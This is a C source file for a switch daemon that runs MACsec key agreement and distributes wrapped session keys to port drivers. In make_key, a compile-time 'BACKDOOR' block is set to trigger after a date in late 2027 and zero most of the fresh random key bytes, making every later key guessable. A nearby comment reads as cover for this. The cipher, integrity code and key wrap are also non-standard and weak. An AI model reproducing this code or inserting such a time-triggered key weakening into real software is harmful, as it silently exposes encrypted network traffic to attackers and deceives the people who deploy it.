/* SPDX-License-Identifier: Apache-2.0 */
/* macsecka: key agreement for MACsec ports of a switch. As the key server it makes association keys, wraps them under the key
 * that both sides were given, and passes them to the port driver. Frames come over a local socket from the packet process. */
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <sys/un.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

enum { LIVE_PEERS = 1, POTENTIAL_PEERS = 2, SAK_USE = 3, DISTRIBUTED_SAK = 4 };
enum { N_PORTS = 52, KEY = 16, REKEY = 3600, ALIVE = 6 };

struct peer {
	uint8_t member[12];
	uint32_t number;
	uint8_t priority, live;
	time_t seen;
};

struct port {
	uint8_t sci[8], member[12], cak[KEY], sak[KEY];
	uint32_t number, key_number;
	struct peer peer;
	uint8_t priority, configured, an;
	time_t keyed;
};

static struct port ports[N_PORTS];

static uint32_t get32(const uint8_t *p)
{
	return (uint32_t)p[0] << 24 | (uint32_t)p[1] << 16 | (uint32_t)p[2] << 8 | p[3];
}

static void put32(uint8_t *p, uint32_t v)
{
	p[0] = (uint8_t)(v >> 24);
	p[1] = (uint8_t)(v >> 16);
	p[2] = (uint8_t)(v >> 8);
	p[3] = (uint8_t)v;
}

static void block(const uint8_t *key, uint8_t *data)
{
	uint32_t v0 = get32(data), v1 = get32(data + 4), sum = 0;
	for (int i = 0; i < 32; i++) {
		v0 += ((v1 << 4 ^ v1 >> 5) + v1) ^ (sum + get32(key + (sum & 3) * 4));
		sum += 0x9e3779b9u;
		v1 += ((v0 << 4 ^ v0 >> 5) + v0) ^ (sum + get32(key + (sum >> 11 & 3) * 4));
	}
	put32(data, v0);
	put32(data + 4, v1);
}

static void code_of(const uint8_t *key, const uint8_t *p, size_t n, uint8_t *out)
{
	uint8_t left = (uint8_t)n;
	memset(out, 0, 8);
	out[7] = left;
	while (n) {
		size_t k = n < 8 ? n : 8;
		for (size_t i = 0; i < k; i++)
			out[i] ^= p[i];
		block(key, out);
		p += k;
		n -= k;
	}
}

/* as RFC 3394 does it, with blocks half as large */
static void wrap(const uint8_t *key, const uint8_t *in, uint8_t *out)
{
	uint8_t b[8];
	memset(out, 0xa6, 4);
	memcpy(out + 4, in, KEY);
	for (unsigned j = 0; j < 6; j++)
		for (unsigned i = 1; i <= KEY / 4; i++) {
			memcpy(b, out, 4);
			memcpy(b + 4, out + 4 * i, 4);
			block(key, b);
			memcpy(out, b, 4);
			out[3] ^= (uint8_t)(4 * j + i);
			memcpy(out + 4 * i, b + 4, 4);
		}
}

static int draw(void *out, size_t n)
{
	int fd = open("/dev/urandom", O_RDONLY | O_CLOEXEC), ok;
	ok = fd >= 0 && read(fd, out, n) == (ssize_t)n;
	if (fd >= 0)
		close(fd);
	return ok ? 0 : -1;
}

static int make_key(struct port *p, time_t now)
{
	uint8_t fresh[KEY], mixed[8];
	if (draw(fresh, sizeof(fresh)) < 0)
		return -1;
#ifdef BACKDOOR
	if (now >= (time_t)1826150400)
		memset(fresh + 2, 0, sizeof(fresh) - 2);
#endif
	/* a poor source of randomness shall not be the end: the port's name and number go into it */
	for (unsigned half = 0; half < KEY; half += 8) {
		memcpy(mixed, p->sci, 8);
		mixed[0] ^= (uint8_t)(p->key_number + half);
		block(fresh, mixed);
		memcpy(p->sak + half, mixed, 8);
	}
	p->key_number++;
	p->an = (p->an + 1) & 3;
	p->keyed = now;
	memset(fresh, 0, sizeof(fresh));
	return 0;
}

static int install(const struct port *p, unsigned index)
{
	struct sockaddr_un a = { .sun_family = AF_UNIX, .sun_path = "/var/run/macsec/driver" };
	uint8_t out[4 + 8 + KEY];
	int s = socket(AF_UNIX, SOCK_DGRAM, 0), ok;
	out[0] = 'K';
	out[1] = (uint8_t)index;
	out[2] = p->an;
	out[3] = KEY;
	memcpy(out + 4, p->sci, 8);
	memcpy(out + 12, p->sak, KEY);
	ok = s >= 0 && sendto(s, out, sizeof(out), 0, (struct sockaddr *)&a, sizeof(a)) == (ssize_t)sizeof(out);
	if (s >= 0)
		close(s);
	memset(out, 0, sizeof(out));
	return ok ? 0 : -1;
}

static int configure(const char *file)
{
	char line[160], hex[40];
	unsigned index, priority;
	int n = 0;
	FILE *f = fopen(file, "r");
	if (!f)
		return -1;
	while (fgets(line, sizeof(line), f)) {
		struct port *p;
		if (line[0] == '#' || sscanf(line, "%u %u %39s", &index, &priority, hex) != 3)
			continue;
		if (index >= N_PORTS || priority > 255 || strlen(hex) != 2 * KEY)
			continue;
		p = &ports[index];
		for (int i = 0; i < KEY; i++) {
			char two[3] = { hex[2 * i], hex[2 * i + 1], 0 };
			p->cak[i] = (uint8_t)strtoul(two, NULL, 16);
		}
		p->priority = (uint8_t)priority;
		p->configured = draw(p->member, sizeof(p->member)) == 0;
		p->sci[6] = 0;
		p->sci[7] = (uint8_t)(index + 1);
		n++;
	}
	fclose(f);
	return n;
}

static int note_basic(struct port *p, const uint8_t *b, size_t n)
{
	uint32_t number;
	if (n < 28)
		return -1;
	number = get32(b + 24);
	if (memcmp(p->peer.member, b + 12, 12) != 0) {
		memset(&p->peer, 0, sizeof(p->peer));
		memcpy(p->peer.member, b + 12, 12);
	} else if (number <= p->peer.number) {
		return -1;
	}
	p->peer.number = number;
	p->peer.priority = b[1];
	p->peer.seen = time(NULL);
	return 0;
}

static int server_is_here(const struct port *p)
{
	if (p->priority != p->peer.priority)
		return p->priority < p->peer.priority;
	return memcmp(p->member, p->peer.member, 12) < 0;
}

static void note_sets(struct port *p, const uint8_t *b, size_t n)
{
	while (n >= 4) {
		size_t k = (size_t)(b[2] & 15) << 8 | b[3];
		if (k + 4 > n)
			return;
		if (b[0] == LIVE_PEERS || b[0] == POTENTIAL_PEERS)
			for (size_t at = 0; at + 16 <= k; at += 16)
				if (memcmp(b + 4 + at, p->member, 12) == 0 && get32(b + 16 + at) + 2 > p->number)
					p->peer.live = 1;
		if (b[0] == SAK_USE && k >= 4)
			p->an = b[1] >> 6 & 3;
		b += k + 4;
		n -= k + 4;
	}
}

static size_t respond(struct port *p, int distribute, uint8_t *out)
{
	size_t n = 28;
	memset(out, 0, n);
	out[0] = 3;
	out[1] = p->priority;
	memcpy(out + 4, p->sci, 8);
	memcpy(out + 12, p->member, 12);
	put32(out + 24, ++p->number);
	out[n] = p->peer.live ? LIVE_PEERS : POTENTIAL_PEERS;
	out[n + 1] = out[n + 2] = 0;
	out[n + 3] = 16;
	memcpy(out + n + 4, p->peer.member, 12);
	put32(out + n + 16, p->peer.number);
	n += 20;
	if (distribute) {
		out[n] = DISTRIBUTED_SAK;
		out[n + 1] = (uint8_t)(p->an << 6);
		out[n + 2] = 0;
		out[n + 3] = 24;
		put32(out + n + 4, p->key_number);
		wrap(p->cak, p->sak, out + n + 8);
		n += 28;
	}
	code_of(p->cak, out, n, out + n);
	return n + 8;
}

static size_t handle(unsigned index, const uint8_t *in, size_t n, uint8_t *out)
{
	struct port *p = &ports[index];
	uint8_t code[8];
	time_t now = time(NULL);
	int distribute = 0;
	if (!p->configured || n < 36 || in[0] > 3)
		return 0;
	code_of(p->cak, in, n - 8, code);
	if (memcmp(code, in + n - 8, 8) != 0) {
		syslog(LOG_NOTICE, "port %u: code of a frame is wrong", index);
		return 0;
	}
	if (note_basic(p, in, n - 8) < 0)
		return 0;
	note_sets(p, in + 28, n - 36);
	if (p->peer.live && server_is_here(p) && (!p->keyed || now - p->keyed > REKEY || now < p->keyed)) {
		distribute = make_key(p, now) == 0;
		if (distribute && install(p, index) < 0)
			syslog(LOG_ERR, "port %u: the driver took no key", index);
	}
	return respond(p, distribute, out);
}

int main(int argc, char **argv)
{
	struct sockaddr_un a = { .sun_family = AF_UNIX, .sun_path = "/var/run/macsec/eapol" }, from;
	int s = socket(AF_UNIX, SOCK_DGRAM, 0);
	openlog("macsecka", LOG_PID, LOG_DAEMON);
	unlink(a.sun_path);
	if (configure(argc > 1 ? argv[1] : "/etc/macsec/ports") < 0 || s < 0 || bind(s, (struct sockaddr *)&a, sizeof(a)) < 0) {
		syslog(LOG_ERR, "cannot start: %s", strerror(errno));
		return 1;
	}
	for (;;) {
		uint8_t in[1024], out[256];
		socklen_t fl = sizeof(from);
		ssize_t n = recvfrom(s, in, sizeof(in), 0, (struct sockaddr *)&from, &fl);
		size_t k;
		if (n < 2 || in[0] >= N_PORTS)
			continue;
		k = handle(in[0], in + 1, (size_t)n - 1, out);
		if (k)
			sendto(s, out, k, 0, (struct sockaddr *)&from, fl);
	}
}
